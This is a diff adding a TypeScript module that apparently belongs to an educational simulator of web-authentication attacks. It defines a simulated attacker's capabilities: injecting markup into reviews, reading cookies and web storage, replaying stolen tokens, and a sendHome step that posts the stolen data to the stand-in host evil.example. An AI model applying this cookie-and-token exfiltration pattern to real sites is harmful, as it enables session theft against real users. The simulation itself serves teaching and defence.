@@ -1,0 +1,257 @@
+/** What an attacker can do in an attack: with a program at home always, and with what was granted. Not: what a given attack does (attacks/). */
+import { scriptView } from '#cookies/cookie-jar';
+import type { Fields } from '#http/message';
+import { encodeUtf8 } from '#text/utf8';
+import type { Attack, Grant, Hands, Stolen } from './attack';
+import { loadImage, navigate, setTab, submitForm, tabAt, type Place } from '../browser/browser';
+import { issueAccessToken } from '../shop/access-token';
+import { bearerFields } from '../shop/bearer';
+import { bareCookie } from '../shop/cookie-draft';
+import { cookiesIn } from './credentials-in';
+import { openPage } from '../browser/page';
+import { allowsInlineScript } from '../browser/page-policy';
+import { policyOf, protect } from '../defences';
+import type { TabId } from '../run/party';
+import { json } from '../shop/response';
+import { ORIGIN } from '../origins';
+import { ATTACKER_NAME, ATTACKER_PASSWORD, USERNAME } from '../shop/shop';
+import type { Setup } from '../run/setup';
+import type { Stage } from '../run/stage';
+import { ACCESS_TOKEN } from '../shop/token-mode';
+
+const REFRESH_PATH = '/auth/refresh';
+const VICTIM_SHOP: Place = { userAgent: 'victim', tab: 'shop' };
+
+/** @param inCookie the shop takes access tokens from a cookie, whose name everybody can see at their own login */
+const fieldsOf = (stolen: readonly Stolen[], inCookie: boolean, setup: Setup): Fields => {
+  const token = stolen.find((each) => each.type === 'token')?.value;
+  const placed: readonly Stolen[] =
+    token !== undefined && inCookie
+      ? [{ type: 'cookie', name: protect(bareCookie(ACCESS_TOKEN, ''), setup).name, value: token }, ...stolen]
+      : stolen;
+  const cookies = placed.flatMap((each) => (each.type === 'cookie' ? [`${each.name}=${each.value}`] : []));
+  return [
+    ...(inCookie ? [] : bearerFields(token)),
+    ...(cookies.length > 0 ? [['Cookie', cookies.join('; ')] as const] : []),
+  ];
+};
+
+/** A JWT, or a value that script kept under a name that says so. */
+const looksLikeToken = (value: string): boolean => /^[\w-]+\.[\w-]+\.[\w-]*$/u.test(value);
+
+const tokensIn = (values: Iterable<string>): Stolen[] =>
+  [...values].filter((value) => looksLikeToken(value)).map((value) => ({ type: 'token', value }));
+
+/**
+ * The hands for one attack.
+ * @param meanwhile does an act of the victim's or the shop's people
+ * @throws Error when the attack reaches for what it was not granted, from the method that would give it
+ */
+export const giveHands = (
+  attack: Pick<Attack, 'id' | 'grants'>,
+  stage: Stage,
+  meanwhile: (id: string) => Promise<void>,
+): Hands => {
+  const { setup, mode } = stage;
+  const need = (grant: Grant) => {
+    if (!attack.grants.includes(grant)) throw new Error(`${attack.id} was not granted ${grant}.`);
+  };
+
+  const send: Hands['send'] = (method, path, fields = [], content = '') => {
+    const url = new URL(path, ORIGIN).href;
+    // A program says what it likes, so a check of Origin is no hindrance to it.
+    const origin: Fields = method === 'GET' ? [] : [['Origin', ORIGIN]];
+    const length: Fields = method === 'GET' ? [] : [['Content-Length', String(encodeUtf8(content).length)]];
+    const request = {
+      method,
+      url,
+      fields: [['Host', new URL(url).host], ...origin, ...length, ...fields] as Fields,
+      content,
+    };
+    return stage.exchange(request, { by: { type: 'tool', userAgent: 'attacker' }, initiator: 'tool' });
+  };
+  const jsonFields: Fields = [['Content-Type', 'application/json']];
+
+  const openAt = async (tab: TabId): Promise<Place> => {
+    const place: Place = { userAgent: 'victim', tab };
+    setTab(stage, place, {});
+    return place;
+  };
+
+  return {
+    mode,
+    setup,
+    note: (says) => {
+      stage.add({ type: 'attacker', says });
+    },
+    send,
+    replay: (stolen, method, path, content) =>
+      send(
+        method,
+        path,
+        [
+          ...(content === undefined ? [] : jsonFields),
+          ...fieldsOf(stolen, mode.id !== 'session' && mode.carrier(setup) === 'cookie', setup),
+        ],
+        content,
+      ),
+    meanwhile,
+    wait: (seconds) => {
+      stage.wait(seconds);
+    },
+    refreshInTwoTabs: async () => {
+      const { refresh } = mode.script;
+      if (typeof refresh === 'string') return;
+      // Both requests leave with the cookies of this moment; the shop answers one after the other.
+      const left = stage.world().userAgents.victim;
+      await refresh(openPage(stage, VICTIM_SHOP, left));
+      await refresh(openPage(stage, { userAgent: 'victim', tab: 'second' }, left));
+    },
+    inject: async (markup) => {
+      need('markup in a page of the shop');
+      await send('POST', '/reviews', [['Content-Type', 'text/plain']], markup);
+      // What the page's own variables held is loaded anew by the shop's script; the tab is the one that is logged in.
+      const { memory } = tabAt(stage, VICTIM_SHOP);
+      const response = await navigate(stage, VICTIM_SHOP, `${ORIGIN}/product`, ORIGIN);
+      setTab(stage, VICTIM_SHOP, { memory });
+      if (!response.content.includes(markup)) {
+        stage.add({ type: 'blocked', says: 'The page shows the markup as text, so nothing of it runs.' });
+        return undefined;
+      }
+      if (!allowsInlineScript(tabAt(stage, VICTIM_SHOP).policy)) {
+        stage.add({
+          type: 'blocked',
+          says: 'The page’s Content-Security-Policy lets no script run that stands in its markup.',
+        });
+        return undefined;
+      }
+      const page = openPage(stage, VICTIM_SHOP);
+      return {
+        ...page,
+        readStorage: () => {
+          const agent = stage.world().userAgents.victim;
+          // A cookie's path hides nothing: script can open a page there and look (RFC 6265bis section 8.5).
+          const shown = ['/', REFRESH_PATH].map((path) =>
+            scriptView(agent.jar, `${ORIGIN}${path}`, stage.world().clock),
+          );
+          const cookies = [...new Set(shown.flatMap((text) => text.split('; ')))].join('; ');
+          stage.add({
+            type: 'script',
+            by: { type: 'page', ...VICTIM_SHOP },
+            area: 'document.cookie',
+            did: 'read',
+            name: '',
+            says: 'The injected script reads document.cookie.',
+            ...(cookies === '' ? {} : { value: cookies }),
+          });
+          const held = agent.localStorage[ORIGIN] ?? {};
+          const local = Object.keys(held).map((name) =>
+            page.read('localStorage', name, 'The injected script reads localStorage.'),
+          );
+          const session = Object.keys(tabAt(stage, VICTIM_SHOP).sessionStorage).map((name) =>
+            page.read('sessionStorage', name, 'The injected script reads sessionStorage.'),
+          );
+          const values = [...local, ...session].filter((value) => value !== undefined);
+          return [...cookiesIn(cookies), ...tokensIn(values)];
+        },
+        sendHome: async (text) => {
+          await page.send('POST', 'https://evil.example/collect', [], text, {
+            mode: 'no-cors',
+            credentials: 'omit',
+          });
+        },
+      };
+    },
+    ownPage: async () => {
+      need('a page that the victim opens');
+      const place = await openAt('evil');
+      const page = openPage(stage, place);
+      return {
+        send: (...wanted) => page.send(...wanted),
+        form: (method, url, values) => submitForm(stage, place, method, url, values),
+        image: (url) => loadImage(stage, place, url),
+      };
+    },
+    siblingPage: () => {
+      need('script on a sibling host');
+      return openPage(stage, { userAgent: 'victim', tab: 'photos' });
+    },
+    listen: async (path) => {
+      need('the network');
+      const url = new URL(path, ORIGIN).href.replace('https:', 'http:');
+      await navigate(stage, { userAgent: 'victim', tab: 'second' }, url);
+      const last = stage.steps.at(-1)?.event;
+      return last?.type === 'exchange' ? last.request : undefined;
+    },
+    log: () => {
+      need('a log of requests');
+      const requests = [...stage.before, ...stage.steps].flatMap(({ event }) =>
+        event.type === 'exchange' && event.by.type === 'page' && event.by.userAgent === 'victim'
+          ? [event.request]
+          : [],
+      );
+      return requests.findLast(({ fields }) =>
+        fields.some(([name]) => name === 'Cookie' || name === 'Authorization'),
+      );
+    },
+    backup: () => {
+      need('a backup of the database');
+      return stage.world().server;
+    },
+    copy: () => {
+      need('a copy of the browser');
+      const { jar, localStorage } = stage.world().userAgents.victim;
+      const { memory, sessionStorage } = tabAt(stage, VICTIM_SHOP);
+      const cookies = jar
+        .filter(({ domain }) => domain === new URL(ORIGIN).host)
+        .map(({ name, value }): Stolen => ({ type: 'cookie', name, value }));
+      return [
+        ...cookies,
+        ...tokensIn(Object.values(memory)),
+        ...tokensIn(Object.values(localStorage[ORIGIN] ?? {})),
+        ...tokensIn(Object.values(sessionStorage)),
+      ];
+    },
+    ownAccount: async () => {
+      need('an account');
+      const page = openPage(stage, { userAgent: 'attacker', tab: 'shop' });
+      await mode.script.logIn(page, ATTACKER_NAME, ATTACKER_PASSWORD);
+      const { jar, localStorage } = stage.world().userAgents.attacker;
+      const { memory, sessionStorage } = tabAt(stage, { userAgent: 'attacker', tab: 'shop' });
+      return [
+        ...jar.map(({ name, value }): Stolen => ({ type: 'cookie', name, value })),
+        ...tokensIn(Object.values(memory)),
+        ...tokensIn(Object.values(localStorage[ORIGIN] ?? {})),
+        ...tokensIn(Object.values(sessionStorage)),
+      ];
+    },
+    otherToken: async (special) => {
+      need('a token for another use');
+      const { server, clock, random } = stage.world();
+      const user = server.users.find(({ name }) => name === USERNAME) ?? { name: USERNAME, role: '' };
+      const issued = await issueAccessToken(
+        user,
+        { method: 'POST', url: ORIGIN, fields: [], content: '' },
+        {
+          setup,
+          policy: policyOf(setup),
+          mode,
+          origin: ORIGIN,
+          now: clock,
+          state: server,
+          random,
+          cache: {},
+          query: () => undefined,
+          send: async () => json({}),
+        },
+        15 * 60,
+        special,
+      );
+      stage.setServer(
+        `${special.issuer ?? 'The shop'} issues ${special.typ === undefined ? 'a token' : `a token of the type ${special.typ}`} for ${special.audience ?? 'the shop’s API'}, and it comes into the attacker’s hands.`,
+        () => issued.state,
+      );
+      return issued.token;
+    },
+  };
+};
